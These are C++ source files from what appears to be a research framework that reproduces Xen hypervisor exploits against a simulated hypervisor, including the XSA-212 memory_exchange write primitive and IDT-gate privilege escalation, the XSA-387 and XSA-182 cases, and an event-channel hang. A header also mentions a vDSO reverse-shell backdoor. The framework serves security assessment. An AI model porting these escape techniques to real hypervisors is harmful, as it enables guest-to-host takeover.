// a specific component implemented for that end". ArbitraryAccessInjector
// is the purpose-built component; this class is the other option — it
// drives erroneous states through the *unpatched* XSA-212 memory_exchange
// primitive, so it needs no modified hypervisor at all, but only works
// where that functionality is exploitable (Xen 4.6) and only supports
// linear-address writes. Comparing the two shows exactly what the paper
// trades: the purpose-built injector is portable across versions, the
// repurposed functionality is not.
#pragma once

#include <memory>

#include "core/injector.hpp"
#include "xsa/exchange_primitive.hpp"

namespace ii::xsa {

class VulnerabilityBackedInjector final : public core::Injector {
 public:
  explicit VulnerabilityBackedInjector(guest::GuestKernel& guest)
      : primitive_{guest} {}

  /// Reads are not expressible through this primitive.
  bool read(std::uint64_t addr, std::span<std::uint8_t> out,
            core::AddressMode mode) override;

  /// Writes: linear mode only; 8-byte aligned granularity assembled from
  /// the groomed exchange primitive.
  bool write(std::uint64_t addr, std::span<const std::uint8_t> in,
             core::AddressMode mode) override;

  [[nodiscard]] long last_rc() const override { return last_rc_; }
  [[nodiscard]] unsigned exchanges_used() const {
    return primitive_.exchanges_used();
  }

 private:
  ExchangeWritePrimitive primitive_;
  long last_rc_ = 0;
};

}  // namespace ii::xsa
