#include "xsa/exchange_primitive.hpp"

namespace ii::xsa {

ExchangeWritePrimitive::ExchangeWritePrimitive(guest::GuestKernel& guest)
    : guest_{&guest} {
  const auto pfn = guest.alloc_pfn();
  if (!pfn) return;
  sacrifice_ = *pfn;
  // The page must carry no mappings or type for the hypervisor to accept
  // the exchange, so drop its directmap entry first.
  ready_ = guest.unmap_pfn(sacrifice_) == hv::kOk;
}

long ExchangeWritePrimitive::write_mfn_at(sim::Vaddr target) {
  hv::MemoryExchange exch{};
  exch.in_extents = {sacrifice_};
  exch.out_extent_start = target;
  exch.nr_exchanged = 0;
  rc_ = guest_->memory_exchange(exch);
  ++exchanges_;
  if (rc_ == hv::kOk) {
    // PV guests track their own P2M, so the attacker learns the fresh MFN
    // without needing to read the (possibly unreadable) output location.
    last_mfn_ = guest_->pfn_to_mfn(sacrifice_)->raw();
  }
  return rc_;
}

bool ExchangeWritePrimitive::groom_byte_at(sim::Vaddr target,
                                           std::uint8_t byte) {
  // Sequential allocation cycles the low byte through all 256 values well
  // within this budget; a non-converging loop means the allocator is in an
  // unexpected state, and giving up beats spinning.
  constexpr unsigned kBudget = 1024;
  for (unsigned i = 0; i < kBudget; ++i) {
    if (write_mfn_at(target) != hv::kOk) return false;
    if (static_cast<std::uint8_t>(last_mfn_ & 0xFF) == byte) return true;
  }
  return false;
}

bool ExchangeWritePrimitive::write_u64(sim::Vaddr target,
                                       std::uint64_t value) {
  if (!ready_) {
    rc_ = hv::kENOMEM;
    return false;
  }
  // Sweep bytes low to high: iteration k leaves the correct byte at
  // target+k, and the 7 spill bytes it scatters above are rewritten by the
  // following iterations (except after the last one — callers clean up
  // with zero_byte_at() when the spill lands somewhere that matters).
  for (unsigned k = 0; k < 8; ++k) {
    const auto byte = static_cast<std::uint8_t>(value >> (8 * k));
    if (!groom_byte_at(sim::Vaddr{target.raw() + k}, byte)) return false;
  }
  return true;
}

bool ExchangeWritePrimitive::zero_byte_at(sim::Vaddr target) {
  if (!ready_) return false;
  return groom_byte_at(target, 0);
}

}  // namespace ii::xsa
