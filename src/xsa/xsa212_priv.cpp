// XSA-212 PoC #2 (privilege escalation): use the arbitrary-write primitive
// to link an attacker-crafted PMD (with an L1 and a payload page behind it)
// into a PUD of the shared Xen area, so the payload becomes visible — at
// the same virtual address — in every domain's address space. Install the
// payload through that address, register an IDT gate pointing at it, fire
// the interrupt, and the payload runs with hypervisor privilege in every
// domain ("|uid=0(root)...|" in /tmp/injector_log everywhere).
//
// The injection variant is the paper's §VI-B script: the same erroneous
// state driven by HYPERVISOR_arbitrary_access instead of the exchange bug.
#include <cstring>

#include "core/injector.hpp"
#include "guest/payload.hpp"
#include "core/injector.hpp"
#include "core/monitor.hpp"
#include "xsa/detail.hpp"
#include "xsa/exchange_primitive.hpp"
#include "xsa/usecases.hpp"

namespace ii::xsa {

namespace {

/// Guest-visible virtual address the linked PMD serves: L4 slot 256
/// (Xen area), L3 slot kTargetPudSlot — inside the pre-4.9
/// linear-page-table window around 0xffff8040'00000000.
sim::Vaddr crafted_va() {
  return sim::compose_vaddr(256, Xsa212Priv::kTargetPudSlot, 0, 0);
}

/// Read the hypervisor's layout block from the guest-readable text mapping
/// (stands in for symbol knowledge from the Xen binary).
std::optional<hv::XenInfoPage> read_xen_info(guest::GuestKernel& guest) {
  hv::XenInfoPage info{};
  if (!guest.read_virt(sim::Vaddr{hv::kXenTextBase},
                       {reinterpret_cast<std::uint8_t*>(&info), sizeof info})) {
    return std::nullopt;
  }
  if (info.magic != hv::XenInfoPage::kMagic) return std::nullopt;
  return info;
}

struct CraftedTables {
  sim::Mfn pmd{};
  sim::Mfn l1{};
  sim::Mfn payload{};
};

/// Build the fake PMD -> fake L1 -> payload-page chain inside the guest's
/// own memory (plain directmap writes; these are the guest's data pages).
std::optional<CraftedTables> craft_tables(guest::GuestKernel& guest) {
  const auto pmd_pfn = guest.alloc_pfn();
  const auto l1_pfn = guest.alloc_pfn();
  const auto payload_pfn = guest.alloc_pfn();
  if (!pmd_pfn || !l1_pfn || !payload_pfn) return std::nullopt;

  CraftedTables t{};
  t.pmd = *guest.pfn_to_mfn(*pmd_pfn);
  t.l1 = *guest.pfn_to_mfn(*l1_pfn);
  t.payload = *guest.pfn_to_mfn(*payload_pfn);

  constexpr std::uint64_t kFlags =
      sim::Pte::kPresent | sim::Pte::kWritable | sim::Pte::kUser;
  if (!guest.write_u64(guest.pfn_va(*l1_pfn),
                       sim::Pte::make(t.payload, kFlags).raw())) {
    return std::nullopt;
  }
  if (!guest.write_u64(guest.pfn_va(*pmd_pfn),
                       sim::Pte::make(t.l1, kFlags).raw())) {
    return std::nullopt;
  }
  return t;
}

/// The steps after the PUD is linked: install the payload *through the
/// crafted Xen-range address* (the access 4.13's hardening refuses),
/// register the IDT gate, fire it.
bool detonate(guest::VirtualPlatform& p, guest::GuestKernel& guest,
              core::CaseOutcome& out,
              const std::function<bool(sim::Vaddr, std::span<const std::uint8_t>)>&
                  write_hv_bytes) {
  guest::Payload payload{};
  payload.op = guest::PayloadOp::RunCommandAllDomains;
  payload.command = Xsa212Priv::kPayloadCommand;
  std::vector<std::uint8_t> bytes(512);
  bytes.resize(payload.encode(bytes));

  detail::note(out, guest, "installing payload at " +
                               detail::hex(crafted_va().raw()));
  if (!guest.write_virt(crafted_va(), bytes)) {
    detail::note(out, guest,
                 "BUG: unable to handle page request at " +
                     detail::hex(crafted_va().raw()) +
                     " (payload install failed)");
    return false;
  }

  const auto gate = sim::IdtGate::interrupt_gate(crafted_va().raw());
  const auto raw = sim::Idt::encode(gate);
  const sim::Vaddr gate_va{p.hv().sidt().raw() +
                           Xsa212Priv::kPayloadVector * sim::Idt::kGateBytes};
  detail::note(out, guest, "registering IDT handler vector " +
                               std::to_string(Xsa212Priv::kPayloadVector));
  if (!write_hv_bytes(gate_va, raw)) {
    detail::note(out, guest, "IDT registration failed");
    return false;
  }
  detail::note(out, guest, "invoking handler");
  (void)guest.software_interrupt(Xsa212Priv::kPayloadVector);
  return true;
}

}  // namespace

core::IntrusionModel Xsa212Priv::model() const {
  return core::IntrusionModel{
      .source = core::TriggeringSource::UnprivilegedGuest,
      .component = core::TargetComponent::MemoryManagement,
      .interface = core::InteractionInterface::Hypercall,
      .functionality =
          core::AbusiveFunctionality::WriteUnauthorizedArbitraryMemory,
      .erroneous_state =
          "attacker PMD linked into a PUD of the shared Xen area",
  };
}

core::CaseOutcome Xsa212Priv::run_exploit(guest::VirtualPlatform& p) {
  core::CaseOutcome out;
  guest::GuestKernel& guest = p.guest(0);

  const auto info = read_xen_info(guest);
  if (!info) {
    detail::note(out, guest, "cannot locate xen layout info");
    return out;
  }
  const auto tables = craft_tables(guest);
  if (!tables) {
    detail::note(out, guest, "out of guest pages");
    return out;
  }
  detail::note(out, guest, "### crafted PUD entry written");

  ExchangeWritePrimitive prim{guest};
  const sim::Vaddr pud_slot{
      hv::directmap_vaddr(sim::Paddr{info->xen_l3_paddr}).raw() +
      kTargetPudSlot * 8};
  const std::uint64_t pud_value =
      sim::Pte::make(tables->pmd, sim::Pte::kPresent | sim::Pte::kWritable |
                                      sim::Pte::kUser)
          .raw();
  detail::note(out, guest, "going to link PMD into target PUD");
  if (!prim.write_u64(pud_slot, pud_value) ||
      !prim.zero_byte_at(sim::Vaddr{pud_slot.raw() + 8})) {
    out.rc = prim.rc();
    detail::note(out, guest,
                 std::string{"memory_exchange failed: "} +
                     hv::errno_name(out.rc) + " (vulnerability fixed)");
    return out;
  }
  out.rc = prim.rc();
  detail::note(out, guest, "linked PMD into target PUD");

  out.completed = detonate(
      p, guest, out,
      [&](sim::Vaddr va, std::span<const std::uint8_t> bytes) {
        // The primitive writes 8 bytes at a time; sweep the buffer and
        // clean the one spill byte that matters (the next gate's
        // type_attr, at +16+5 relative to this gate).
        for (std::size_t off = 0; off + 8 <= bytes.size(); off += 8) {
          std::uint64_t word = 0;
          std::memcpy(&word, bytes.data() + off, 8);
          if (!prim.write_u64(sim::Vaddr{va.raw() + off}, word)) return false;
        }
        return prim.zero_byte_at(sim::Vaddr{va.raw() + 16 + 5});
      });
  return out;
}

core::CaseOutcome Xsa212Priv::run_injection(guest::VirtualPlatform& p) {
  core::CaseOutcome out;
  guest::GuestKernel& guest = p.guest(0);

  const auto info = read_xen_info(guest);
  if (!info) {
    detail::note(out, guest, "cannot locate xen layout info");
    return out;
  }
  const auto tables = craft_tables(guest);
  if (!tables) {
    detail::note(out, guest, "out of guest pages");
    return out;
  }
  detail::note(out, guest, "### crafted PUD entry written");

  core::ArbitraryAccessInjector injector{guest};
  const sim::Vaddr pud_slot{
      hv::directmap_vaddr(sim::Paddr{info->xen_l3_paddr}).raw() +
      kTargetPudSlot * 8};
  const std::uint64_t pud_value =
      sim::Pte::make(tables->pmd, sim::Pte::kPresent | sim::Pte::kWritable |
                                      sim::Pte::kUser)
          .raw();
  detail::note(out, guest, "going to link PMD into target PUD");
  // The paper's §VI-B snippet: HYPERVISOR_arbitrary_access(target, &val,
  // sizeof(u64), ARBITRARY_WRITE_LINEAR).
  if (!injector.write_u64(pud_slot.raw(), pud_value,
                          core::AddressMode::Linear)) {
    out.rc = injector.last_rc();
    detail::note(out, guest, std::string{"arbitrary_access failed: "} +
                                 hv::errno_name(out.rc));
    return out;
  }
  out.rc = injector.last_rc();
  detail::note(out, guest, "linked PMD into target PUD");

  out.completed = detonate(
      p, guest, out,
      [&](sim::Vaddr va, std::span<const std::uint8_t> bytes) {
        return injector.write(va.raw(), bytes, core::AddressMode::Linear);
      });
  return out;
}

bool Xsa212Priv::erroneous_state_present(guest::VirtualPlatform& p) const {
  // Audit the target PUD slot: the erroneous state is a present entry in
  // the shared Xen L3 that leads to guest-owned memory.
  const sim::Pte entry{
      p.hv().memory().read_slot(p.hv().xen_l3(), kTargetPudSlot)};
  if (!entry.present() || !p.hv().memory().contains(entry.frame())) {
    return false;
  }
  const hv::PageInfo& pi = p.hv().frames().info(entry.frame());
  return pi.owner != hv::kDomXen && pi.owner != hv::kDomInvalid;
}

bool Xsa212Priv::security_violation(guest::VirtualPlatform& p) const {
  core::SystemMonitor monitor{p};
  return monitor.file_in_all_domains("/tmp/injector_log", "uid=0(root)");
}

std::string Xsa212Priv::erroneous_state_description(
    guest::VirtualPlatform& p) const {
  const sim::PhysicalMemory& mem = p.hv().memory();
  const sim::Pte pud{mem.read_slot(p.hv().xen_l3(), kTargetPudSlot)};
  if (!pud.present() || !mem.contains(pud.frame())) return {};
  const hv::PageInfo& pud_target = p.hv().frames().info(pud.frame());
  std::string out = "xen_l3[" + std::to_string(kTargetPudSlot) +
                    "]: " + detail::flags_str(pud) + " -> " +
                    (pud_target.owner == hv::kDomXen ? "xen" : "guest") +
                    "-owned PMD";
  const sim::Pte pmd{mem.read_slot(pud.frame(), 0)};
  if (!pmd.present() || !mem.contains(pmd.frame())) return out;
  out += "[0]: " + detail::flags_str(pmd) + " -> L1";
  const sim::Pte l1{mem.read_slot(pmd.frame(), 0)};
  if (!l1.present() || !mem.contains(l1.frame())) return out;
  out += "[0]: " + detail::flags_str(l1) + " -> payload: ";
  const auto payload =
      guest::Payload::decode(mem.frame_bytes(l1.frame()));
  out += payload ? "'" + payload->command + "'" : "absent";
  return out;
}

}  // namespace ii::xsa
