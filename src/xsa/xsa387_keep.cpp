// XSA-387-family use case (extension): Keep Page Access through the grant
// v2→v1 downgrade leak (paper §IV-B's worked example of abstracting two
// different bugs — XSA-387 and XSA-393 — into one abusive functionality).
//
// Exploit path: upgrade to grant v2 (the status page gets mapped into the
// guest), downgrade to v1. On leaky versions the mapping survives and the
// guest can keep reading a Xen-owned page. Injection path: perform a clean
// upgrade/downgrade, then re-install the stale PTE with the injector —
// reproducing the erroneous state even where the release bug is fixed.
#include <cstring>

#include "core/injector.hpp"
#include "hv/audit.hpp"
#include "xsa/detail.hpp"
#include "xsa/usecases.hpp"

namespace ii::xsa {

namespace {

/// The Xen-internal marker GrantOps seeds status frames with.
constexpr const char* kStatusSecret = "XEN-INTERNAL grant status";

/// True when the guest can read the status-page secret through its own
/// (supposedly torn down) mapping.
bool guest_reads_status_secret(guest::GuestKernel& guest) {
  std::array<std::uint8_t, 32> buf{};
  if (!guest.read_virt(guest.grant_status_va(), buf)) return false;
  return std::memcmp(buf.data(), kStatusSecret, std::strlen(kStatusSecret)) ==
         0;
}

}  // namespace

core::IntrusionModel Xsa387Keep::model() const {
  return core::IntrusionModel{
      .source = core::TriggeringSource::UnprivilegedGuest,
      .component = core::TargetComponent::GrantTables,
      .interface = core::InteractionInterface::Hypercall,
      .functionality = core::AbusiveFunctionality::KeepPageAccess,
      .erroneous_state =
          "grant-v2 status page still guest-mapped after downgrade to v1",
  };
}

core::CaseOutcome Xsa387Keep::run_exploit(guest::VirtualPlatform& p) {
  core::CaseOutcome out;
  guest::GuestKernel& guest = p.guest(0);
  detail::note(out, guest, "switching grant table to v2");
  out.rc = guest.grant_set_version(2);
  if (out.rc != hv::kOk) {
    detail::note(out, guest, "v2 upgrade failed");
    return out;
  }
  detail::note(out, guest, "switching grant table back to v1");
  out.rc = guest.grant_set_version(1);
  if (out.rc != hv::kOk) return out;

  if (!guest_reads_status_secret(guest)) {
    detail::note(out, guest,
                 "status page unmapped on downgrade (vulnerability fixed)");
    return out;
  }
  detail::note(out, guest, "status page STILL readable after downgrade");
  out.completed = true;
  return out;
}

core::CaseOutcome Xsa387Keep::run_injection(guest::VirtualPlatform& p) {
  core::CaseOutcome out;
  guest::GuestKernel& guest = p.guest(0);
  // Exercise the legitimate cycle first so a status frame exists...
  detail::note(out, guest, "grant v2 up/downgrade cycle");
  if (guest.grant_set_version(2) != hv::kOk ||
      guest.grant_set_version(1) != hv::kOk) {
    out.rc = hv::kEINVAL;
    return out;
  }
  // ...then inject the Keep-Page-Access erroneous state: re-point the
  // status-window PTE at the (released) Xen status frame.
  const auto* table = p.hv().grants().find_table(guest.id());
  if (table == nullptr || table->status_frames().empty()) {
    detail::note(out, guest, "no status frame to retain");
    return out;
  }
  const sim::Mfn status = table->status_frames()[0];
  const std::uint64_t slot =
      sim::mfn_to_paddr(guest.l1_mfn(hv::kGrantStatusPfn.raw() /
                                     sim::kPtEntries))
          .raw() +
      (hv::kGrantStatusPfn.raw() % sim::kPtEntries) * 8;

  core::ArbitraryAccessInjector injector{guest};
  detail::note(out, guest, "injecting stale status-page mapping");
  if (!injector.write_u64(
          slot,
          sim::Pte::make(status, sim::Pte::kPresent | sim::Pte::kUser).raw(),
          core::AddressMode::Physical)) {
    out.rc = injector.last_rc();
    detail::note(out, guest, std::string{"arbitrary_access failed: "} +
                                 hv::errno_name(out.rc));
    return out;
  }
  out.rc = injector.last_rc();
  if (guest_reads_status_secret(guest)) {
    detail::note(out, guest, "status page readable through injected mapping");
    out.completed = true;
  } else {
    detail::note(out, guest, "injected mapping not reachable");
  }
  return out;
}

bool Xsa387Keep::erroneous_state_present(guest::VirtualPlatform& p) const {
  // Audit: a guest-reachable GrantStatus frame while the table is at v1.
  const auto report = hv::audit_system(p.hv());
  return report.has(hv::FindingKind::StaleGrantMapping);
}

bool Xsa387Keep::security_violation(guest::VirtualPlatform& p) const {
  // Confidentiality violation: the guest actually reads Xen-internal bytes.
  return guest_reads_status_secret(p.guest(0));
}

}  // namespace ii::xsa
