// Shared helpers for the use-case implementations.
#pragma once

#include <cstdio>
#include <string>

#include "core/usecase.hpp"

namespace ii::xsa::detail {

inline std::string hex(std::uint64_t v) {
  char buf[32];
  std::snprintf(buf, sizeof buf, "0x%016llx",
                static_cast<unsigned long long>(v));
  return buf;
}

/// Canonical flag rendering for erroneous-state descriptions ("P|RW|US").
inline std::string flags_str(sim::Pte entry) {
  std::string out;
  const auto add = [&](bool on, const char* name) {
    if (!on) return;
    if (!out.empty()) out += '|';
    out += name;
  };
  add(entry.present(), "P");
  add(entry.writable(), "RW");
  add(entry.user(), "US");
  add(entry.large_page(), "PSE");
  add(entry.no_execute(), "NX");
  return out.empty() ? "-" : out;
}

/// Record a step both in the outcome notes and the attacking guest's dmesg
/// (the paper's transcripts come from the guest kernel log).
inline void note(core::CaseOutcome& out, guest::GuestKernel& guest,
                 const std::string& msg) {
  out.notes.push_back(msg);
  guest.printk(msg);
}

}  // namespace ii::xsa::detail
