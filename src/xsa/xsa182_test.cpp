// XSA-182 vulnerability test (Quarkslab part 3, "Qubes escape"): PV guests
// could legitimately keep a read-only "linear" (self) mapping of their L4 in
// the historical linear-page-table slot. The buggy mod_l4_entry fast path
// re-validated nothing when an update only flipped flag bits on the same
// frame — so flipping RW onto the self map yields a guest-writable mapping
// of the guest's own top-level page table. The PoC proves writability by
// storing a forged entry into page_directory[42] through the self map.
#include "core/injector.hpp"
#include "xsa/detail.hpp"
#include "xsa/usecases.hpp"

namespace ii::xsa {

namespace {

constexpr std::uint64_t kRoFlags = sim::Pte::kPresent | sim::Pte::kUser;
constexpr std::uint64_t kRwFlags =
    sim::Pte::kPresent | sim::Pte::kUser | sim::Pte::kWritable;

/// Virtual address that resolves to the L4 page itself via the self map:
/// every level walks through the linear-PT slot, so the "leaf" is the L4
/// frame; the offset selects the probed slot.
sim::Vaddr self_map_probe_va() {
  return sim::compose_vaddr(hv::kLinearPtSlot, hv::kLinearPtSlot,
                            hv::kLinearPtSlot, hv::kLinearPtSlot,
                            Xsa182Test::kProbeSlot * 8);
}

/// Machine address of the linear-PT slot in the guest's own L4.
sim::Paddr self_map_slot(guest::GuestKernel& guest) {
  return sim::mfn_to_paddr(guest.l4_mfn()) + hv::kLinearPtSlot * 8;
}

/// After the RW flip, prove writability: store a forged (harmless,
/// guest-owned) entry into the own page directory through the self map.
bool probe_write(guest::VirtualPlatform& p, guest::GuestKernel& guest,
                 core::CaseOutcome& out) {
  const auto spare = guest.alloc_pfn();
  if (!spare) return false;
  const std::uint64_t forged =
      sim::Pte::make(*guest.pfn_to_mfn(*spare), kRwFlags).raw();
  detail::note(out, guest,
               "writing page_directory[" +
                   std::to_string(Xsa182Test::kProbeSlot) + "] via " +
                   detail::hex(self_map_probe_va().raw()));
  if (!guest.write_u64(self_map_probe_va(), forged)) {
    detail::note(out, guest,
                 "exception while updating self-mapped page directory");
    return false;
  }
  const auto readback = guest.read_u64(self_map_probe_va());
  detail::note(out, guest,
               "page_directory[" + std::to_string(Xsa182Test::kProbeSlot) +
                   "] = " + detail::hex(readback.value_or(0)));
  (void)p;
  return true;
}

}  // namespace

core::IntrusionModel Xsa182Test::model() const {
  return core::IntrusionModel{
      .source = core::TriggeringSource::UnprivilegedGuest,
      .component = core::TargetComponent::MemoryManagement,
      .interface = core::InteractionInterface::Hypercall,
      .functionality =
          core::AbusiveFunctionality::GuestWritablePageTableEntry,
      .erroneous_state = "writable L4 self mapping (linear page table)",
  };
}

core::CaseOutcome Xsa182Test::run_exploit(guest::VirtualPlatform& p) {
  core::CaseOutcome out;
  guest::GuestKernel& guest = p.guest(0);
  const std::uint64_t l4 = guest.l4_mfn().raw();

  detail::note(out, guest, "creating read-only L4 self map in slot " +
                               std::to_string(hv::kLinearPtSlot));
  out.rc = guest.mmu_update_one(self_map_slot(guest),
                                sim::Pte::make(sim::Mfn{l4}, kRoFlags).raw());
  if (out.rc != hv::kOk) {
    detail::note(out, guest,
                 std::string{"self map rejected: "} + hv::errno_name(out.rc));
    return out;
  }

  detail::note(out, guest, "flipping RW on the self map (XSA-182 fast path)");
  out.rc = guest.mmu_update_one(self_map_slot(guest),
                                sim::Pte::make(sim::Mfn{l4}, kRwFlags).raw());
  if (out.rc != hv::kOk) {
    detail::note(out, guest, std::string{"not vulnerable ("} +
                                 hv::errno_name(out.rc) + ")");
    return out;
  }
  detail::note(out, guest, "writable self map installed");

  out.completed = probe_write(p, guest, out);
  return out;
}

core::CaseOutcome Xsa182Test::run_injection(guest::VirtualPlatform& p) {
  core::CaseOutcome out;
  guest::GuestKernel& guest = p.guest(0);
  const std::uint64_t l4 = guest.l4_mfn().raw();

  detail::note(out, guest,
               "injecting writable L4 self map via arbitrary_access");
  core::ArbitraryAccessInjector injector{guest};
  // The injector adds the RW self map directly in the L4 frame (physical
  // addressing): the erroneous state, without the vulnerable fast path.
  if (!injector.write_u64(self_map_slot(guest).raw(),
                          sim::Pte::make(sim::Mfn{l4}, kRwFlags).raw(),
                          core::AddressMode::Physical)) {
    out.rc = injector.last_rc();
    detail::note(out, guest, std::string{"arbitrary_access failed: "} +
                                 hv::errno_name(out.rc));
    return out;
  }
  out.rc = injector.last_rc();
  detail::note(out, guest, "RW flag added to the L4 self map");

  out.completed = probe_write(p, guest, out);
  return out;
}

bool Xsa182Test::erroneous_state_present(guest::VirtualPlatform& p) const {
  guest::GuestKernel& guest = p.guest(0);
  const sim::Pte entry{
      p.hv().memory().read_slot(guest.l4_mfn(), hv::kLinearPtSlot)};
  return entry.present() && entry.writable() &&
         entry.frame() == guest.l4_mfn();
}

bool Xsa182Test::security_violation(guest::VirtualPlatform& p) const {
  // The violation is the unauthorized page-directory write itself: the
  // probe slot of the guest's L4 holds an entry the hypervisor never
  // validated.
  guest::GuestKernel& guest = p.guest(0);
  return p.hv().memory().read_slot(guest.l4_mfn(), kProbeSlot) != 0;
}

std::string Xsa182Test::erroneous_state_description(
    guest::VirtualPlatform& p) const {
  guest::GuestKernel& guest = p.guest(0);
  const sim::Pte entry{
      p.hv().memory().read_slot(guest.l4_mfn(), hv::kLinearPtSlot)};
  if (!entry.present() || !entry.writable() ||
      entry.frame() != guest.l4_mfn()) {
    return {};
  }
  return "l4[" + std::to_string(hv::kLinearPtSlot) +
         "]: writable self map (" + detail::flags_str(entry) + ")";
}

}  // namespace ii::xsa
