// Interrupt-storm use case (extension): "Induce a Hang State" through
// uncontrolled event-channel pending bits (paper Table I's non-memory
// class; §IX-C: "memory corruption bugs on the hypervisor may translate
// into non-memory components ... interruptions are implemented using event
// channel data structures in Xen").
//
// There is no public exploit for this family in the paper's corpus, so
// run_exploit() reports exactly that — the situation the intrusion-
// injection approach exists for. The injection writes the erroneous state
// (pending bits raised for ports with no handler) straight into the
// victim's shared_info page, then lets the hypervisor's delivery loop run:
// pre-hardening versions re-queue the undeliverable events forever and the
// watchdog reports a wedged CPU; the hardened version drops them.
#include "core/injector.hpp"
#include "xsa/detail.hpp"
#include "xsa/usecases.hpp"

namespace ii::xsa {

namespace {

/// Physical address of the victim's shared_info pending bitmap.
sim::Paddr pending_words(guest::VirtualPlatform& p, guest::GuestKernel& victim) {
  const auto mfn = victim.pfn_to_mfn(guest::kSharedInfoPfn);
  (void)p;
  return sim::mfn_to_paddr(*mfn) + hv::SharedInfoLayout::kPendingOffset;
}

/// After injection, normal platform activity services events; model one
/// scheduler pass over the victim.
hv::EventChannelOps::DispatchResult service(guest::GuestKernel& victim) {
  return victim.handle_events();
}

}  // namespace

core::IntrusionModel EvtchnStorm::model() const {
  return core::IntrusionModel{
      .source = core::TriggeringSource::UnprivilegedGuest,
      .component = core::TargetComponent::InterruptHandling,
      .interface = core::InteractionInterface::EventChannel,
      .functionality = core::AbusiveFunctionality::InduceHangState,
      .erroneous_state =
          "pending bits raised for unbound event ports in shared_info",
  };
}

core::CaseOutcome EvtchnStorm::run_exploit(guest::VirtualPlatform& p) {
  core::CaseOutcome out;
  guest::GuestKernel& guest = p.guest(0);
  detail::note(out, guest,
               "no public exploit available for this intrusion model; "
               "assessment possible through injection only (paper "
               "capability ii)");
  out.rc = hv::kENOSYS;
  return out;
}

core::CaseOutcome EvtchnStorm::run_injection(guest::VirtualPlatform& p) {
  core::CaseOutcome out;
  guest::GuestKernel& attacker = p.guest(0);
  guest::GuestKernel& victim = *p.kernel_of(hv::kDom0);  // dom0 is the victim

  // Benign baseline traffic so the model reflects a live system: one bound
  // channel with a registered handler.
  unsigned dom0_port = 0, attacker_port = 0;
  (void)victim.evtchn_alloc_unbound(attacker.id(), &dom0_port);
  (void)attacker.evtchn_bind(victim.id(), dom0_port, &attacker_port);
  (void)victim.evtchn_register_handler(dom0_port);
  (void)attacker.evtchn_send(attacker_port);
  const auto baseline = service(victim);
  detail::note(out, attacker,
               "baseline event delivered: " +
                   std::to_string(baseline.delivered));

  // The injection: raise pending bits for a block of ports nobody bound.
  core::ArbitraryAccessInjector injector{attacker};
  const sim::Paddr words = pending_words(p, victim);
  detail::note(out, attacker,
               "injecting uncontrolled pending bits into dom0 shared_info");
  for (unsigned w = 2; w < 8; ++w) {  // ports 128..511: all unbound
    if (!injector.write_u64(words.raw() + w * 8, ~0ULL,
                            core::AddressMode::Physical)) {
      out.rc = injector.last_rc();
      detail::note(out, attacker,
                   std::string{"arbitrary_access failed: "} +
                       hv::errno_name(out.rc));
      return out;
    }
  }
  out.rc = hv::kOk;

  // Let the hypervisor's delivery loop meet the storm.
  const auto result = service(victim);
  detail::note(out, attacker,
               "delivery loop: delivered=" + std::to_string(result.delivered) +
                   " dropped=" + std::to_string(result.dropped) +
                   (result.livelocked ? " LIVELOCK" : ""));
  out.completed = true;
  return out;
}

bool EvtchnStorm::erroneous_state_present(guest::VirtualPlatform& p) const {
  // The injected state is pending bits on handler-less high ports. A wedged
  // loop leaves them set; a hardened loop has drained them but left the
  // drop record on the console — either way the state observably existed.
  for (unsigned port = 128; port < 512; ++port) {
    if (p.hv().events().pending(hv::kDom0, port)) return true;
  }
  for (const auto& line : p.hv().console()) {
    if (line.find("stuck in event delivery loop") != std::string::npos ||
        line.find("events raised on unbound ports") != std::string::npos) {
      return true;
    }
  }
  return false;
}

bool EvtchnStorm::security_violation(guest::VirtualPlatform& p) const {
  // Availability violation: a wedged CPU.
  return p.hv().cpu_hung();
}

}  // namespace ii::xsa
