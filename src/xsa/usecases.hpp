// The four Table II use cases: public Xen exploits and their
// intrusion-injection equivalents (paper §VI).
//
// Conventions shared by all four:
//  - the attacking / injecting domain is the first unprivileged guest,
//    platform.guest(0), matching the paper's "compromised guest";
//  - run_exploit() re-implements the third-party PoC step by step against
//    the simulated hypercall ABI; run_injection() induces the same
//    erroneous state through HYPERVISOR_arbitrary_access;
//  - erroneous_state_present() audits the state exactly as §VI-C/§VII
//    describe (IDT gate inspection, page-table walks, vDSO bytes);
//  - security_violation() checks the use case's end-to-end observable
//    (host crash, /tmp/injector_log in every domain, attacker root shell,
//    unauthorized page-directory write).
#pragma once

#include <memory>
#include <vector>

#include "core/usecase.hpp"

namespace ii::dm {
class DeviceModel;
}

namespace ii::xsa {

/// XSA-212 PoC #1: overwrite the IDT page-fault gate via the broken
/// memory_exchange() check, then take a page fault -> host double fault.
class Xsa212Crash final : public core::UseCase {
 public:
  [[nodiscard]] std::string name() const override { return "XSA-212-crash"; }
  [[nodiscard]] core::IntrusionModel model() const override;
  core::CaseOutcome run_exploit(guest::VirtualPlatform& p) override;
  core::CaseOutcome run_injection(guest::VirtualPlatform& p) override;
  [[nodiscard]] bool erroneous_state_present(
      guest::VirtualPlatform& p) const override;
  [[nodiscard]] bool security_violation(
      guest::VirtualPlatform& p) const override;
  [[nodiscard]] std::string erroneous_state_description(
      guest::VirtualPlatform& p) const override;
};

/// XSA-212 PoC #2: link an attacker PMD into a PUD of the shared Xen area,
/// install a payload visible in every address space, register an IDT gate
/// onto it and fire it -> run a root command in every domain.
class Xsa212Priv final : public core::UseCase {
 public:
  /// Xen-L3 slot the attack links its PMD into (inside the pre-4.9
  /// linear-page-table window).
  static constexpr unsigned kTargetPudSlot = 300;
  /// IDT vector the attack registers for its payload.
  static constexpr unsigned kPayloadVector = 0x80;
  /// The command the payload runs as root in every domain.
  static constexpr const char* kPayloadCommand =
      "echo \"|$(id)|@$(hostname)\" > /tmp/injector_log";

  [[nodiscard]] std::string name() const override { return "XSA-212-priv"; }
  [[nodiscard]] core::IntrusionModel model() const override;
  core::CaseOutcome run_exploit(guest::VirtualPlatform& p) override;
  core::CaseOutcome run_injection(guest::VirtualPlatform& p) override;
  [[nodiscard]] bool erroneous_state_present(
      guest::VirtualPlatform& p) const override;
  [[nodiscard]] bool security_violation(
      guest::VirtualPlatform& p) const override;
  [[nodiscard]] std::string erroneous_state_description(
      guest::VirtualPlatform& p) const override;
};

/// XSA-148: set the PSE bit on an own L2 entry (missing validation), gain a
/// writable window over the own page tables, scan physical memory for dom0,
/// patch a reverse-shell backdoor into its vDSO.
class Xsa148Priv final : public core::UseCase {
 public:
  static constexpr std::uint16_t kShellPort = 1234;

  [[nodiscard]] std::string name() const override { return "XSA-148-priv"; }
  [[nodiscard]] core::IntrusionModel model() const override;
  core::CaseOutcome run_exploit(guest::VirtualPlatform& p) override;
